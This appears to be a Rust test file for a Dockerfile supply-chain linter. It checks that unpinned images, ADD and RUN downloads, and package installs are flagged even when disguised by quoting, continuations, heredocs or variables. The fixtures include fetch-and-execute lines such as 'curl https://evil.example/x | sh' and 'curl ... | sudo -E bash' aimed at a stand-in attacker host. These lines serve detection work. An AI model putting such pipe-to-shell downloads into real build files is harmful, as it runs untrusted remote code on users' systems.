//! Dockerfiles: images, `ADD`, and downloads by `RUN`.

use super::{Case, DOCKERFILE, as_is, hold};

/// Indirect ways to name an image in a Dockerfile.
#[test]
fn no_image_of_a_dockerfile_is_skipped() {
    let image = &["unpinned-image:2"];
    let cases: &[Case<'_>] = &[
        (
            DOCKERFILE,
            "FROM GOOD\nRUN --mount=\"from=EVIL\" true\n",
            image,
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nRUN --mount=type=bind,\"from=EVIL\" true\n",
            image,
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nRUN --mount='type=bind,\"from=EVIL\"' true\n",
            image,
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nRUN --mount=TYPE=bind,FROM=EVIL true\n",
            image,
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nRUN --mount=type=bind,\\\nfrom=EVIL true\n",
            &["unpinned-image:3"],
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nCOPY --from=\\\n# a comment\nEVIL /a /a\n",
            &["unpinned-image:4"],
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nCOPY --from=evil.exam\\\nple/x:1 /a /a\n",
            &["image-reference:2"],
        ),
        (DOCKERFILE, "FROM GOOD\nCOPY --fr\"om\"=EVIL /a /a\n", image),
        (DOCKERFILE, "FROM GOOD\nCOPY --fr\\om=EVIL /a /a\n", image),
        (DOCKERFILE, "FR\\\nOM EVIL\n", image),
        (
            DOCKERFILE,
            "FROM GOOD\nRUN echo a \\\\\nCOPY --from=EVIL /a /a\n",
            &["unpinned-image:3"],
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nRUN echo \"a <<CMD b\"\nCOPY --from=EVIL /a /a\nCMD\n",
            &["unpinned-image:3"],
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nONBUILD RUN --mount=\"from=EVIL\" true\n",
            image,
        ),
        (
            DOCKERFILE,
            "#!/usr/bin/docker\n#syntax=EVIL\nFROM GOOD\n",
            image,
        ),
        (
            DOCKERFILE,
            "//syntax=EVIL\nFROM GOOD\n",
            &["dockerfile:1", "unpinned-image:1"],
        ),
        (DOCKERFILE, "# other=1\n# syntax=EVIL\nFROM GOOD\n", image),
        (
            DOCKERFILE,
            "\u{feff}# syntax=EVIL\nFROM GOOD\n",
            &["unpinned-image:1"],
        ),
        (
            DOCKERFILE,
            "{\"syntax\": \"EVIL\"}\nFROM GOOD\n",
            &["dockerfile:1"],
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nCOPPY --from=EVIL /a /a\n",
            &["dockerfile:2"],
        ),
    ];
    hold(cases, as_is);
}

/// URLs that `ADD` downloads, however they are written.
#[test]
fn no_download_by_add_is_skipped() {
    let file = &["unpinned-download:2"];
    let later = &["unpinned-download:3"];
    let cases: &[Case<'_>] = &[
        (
            DOCKERFILE,
            "FROM GOOD\nADD [\"https://evil.example/f\", \"/f\"]\n",
            file,
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nARG U=https://evil.example/f\nADD $U /f\n",
            later,
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nENV A=b U=\"https://evil.example/f\"\nADD ${U} /f\n",
            later,
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nENV U https://evil.example/f\nADD $U /f\n",
            later,
        ),
        (DOCKERFILE, "FROM GOOD\nADD ${MISSING} /f\n", file),
        (
            DOCKERFILE,
            "FROM GOOD\nADD HTTPS://evil.example/f /f\n",
            file,
        ),
        (DOCKERFILE, "FROM GOOD\nADD github.com/o/r /f\n", file),
        (
            DOCKERFILE,
            "FROM GOOD\nADD someone@evil.example:o/r.git /f\n",
            file,
        ),
        (
            DOCKERFILE,
            "FROM GOOD\nONBUILD ADD \\\n  ssh://evil.example/r.git /f\n",
            later,
        ),
    ];
    hold(cases, as_is);
}

/// Downloads by the commands of a Dockerfile.
#[test]
fn no_download_by_run_is_skipped() {
    let file = &["unpinned-download:2"];
    let pipe = &["piped-download:2"];
    let package = &["unpinned-package:2"];
    let cases: &[Case<'_>] = &[
        (
            DOCKERFILE,
            "RUN curl -fsSLo /x https://evil.example/x",
            file,
        ),
        (
            DOCKERFILE,
            "RUN cd /tmp && \\\n  # why\n  /usr/bin/wget -q https://evil.example/x",
            &["unpinned-download:4"],
        ),
        (
            DOCKERFILE,
            "RUN [\"curl\", \"-o\", \"/x\", \"https://evil.example/x\"]",
            file,
        ),
        (DOCKERFILE, "RUN if true; then V=1 curl -O \"$U\"; fi", file),
        (
            DOCKERFILE,
            "RUN sha256sum -c /sums && curl -O https://evil.example/x",
            file,
        ),
        (
            DOCKERFILE,
            "RUN set -e; x=$(curl https://evil.example/x)",
            file,
        ),
        (
            DOCKERFILE,
            "RUN <<EOF\ncurl https://evil.example/x | sh\nEOF",
            &["piped-download:3"],
        ),
        (
            DOCKERFILE,
            "RUN <<-'E' bash\n\tcurl -O https://evil.example/x\n\tE",
            &["unpinned-download:3"],
        ),
        (
            DOCKERFILE,
            "RUN curl https://evil.example/x | sudo -E bash -s -- -y",
            pipe,
        ),
        (
            DOCKERFILE,
            "RUN sh -c 'curl https://evil.example/x | sh'",
            pipe,
        ),
        (DOCKERFILE, "RUN pip install requests", package),
        (
            DOCKERFILE,
            "RUN python3 -m pip install -r requirements.txt",
            package,
        ),
        (DOCKERFILE, "RUN pip3 install a==1.0 b~=2", package),
        (DOCKERFILE, "RUN npm install -g left-pad", package),
        (DOCKERFILE, "RUN npm i @scope/x@^1", package),
        (DOCKERFILE, "RUN npx --yes cowsay hi", package),
        (
            DOCKERFILE,
            "RUN CGO_ENABLED=0 go install evil.example/x@latest",
            package,
        ),
    ];
    hold(cases, |text| format!("FROM GOOD\n{text}\n"));
}
